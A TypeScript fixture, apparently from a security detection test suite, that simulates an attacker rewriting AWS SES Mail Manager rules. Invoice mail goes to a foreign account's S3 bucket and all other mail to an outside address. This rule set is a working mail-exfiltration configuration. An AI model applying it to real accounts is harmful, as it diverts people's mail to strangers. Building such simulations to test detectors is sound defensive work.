/** The story of incoming mail that Mail Manager hands to others. */
import { ACCOUNTS, program } from "../callers.ts";
import { CLIENTS } from "../clients.ts";
import { sesCall } from "../ses-call.ts";
import { plant, type Story } from "../story.ts";

const { production, foreign } = ACCOUNTS;

/** A rule set that copies mail to a bucket of others, and to a recipient outside. */
export const mailManagerDiverted: Story = {
  sort: "attack",
  happens: "Mail Manager's rules hand invoices, and all other mail, to strangers.",
  detections: [19],
  *tell(clock) {
    const caller = program(production, "inbox-sync", "192.0.2.145", CLIENTS.boto3, "sam.weber");
    yield plant(
      sesCall(
        { at: clock.day(3, "02:50:33"), caller, region: "us-east-1" },
        "mailmanager",
        "UpdateRuleSet",
        {
          ruleSetId: "rs-0123456789abcdef",
          rules: [
            {
              name: "invoices",
              conditions: [
                {
                  stringExpression: {
                    evaluate: { attribute: "SUBJECT" },
                    operator: "CONTAINS",
                    values: ["invoice"],
                  },
                },
              ],
              actions: [
                {
                  writeToS3: {
                    roleArn: `arn:aws:iam::${foreign}:role/collect`,
                    s3Bucket: "collect-7f3a",
                    s3Prefix: "in/",
                  },
                },
              ],
            },
            { name: "rest", actions: [{ replaceRecipient: { replaceWith: ["box@example.net"] } }] },
          ],
        },
        { response: {} },
      ),
      "mail_diverted",
      "mail_to_foreign_account",
    );
  },
};
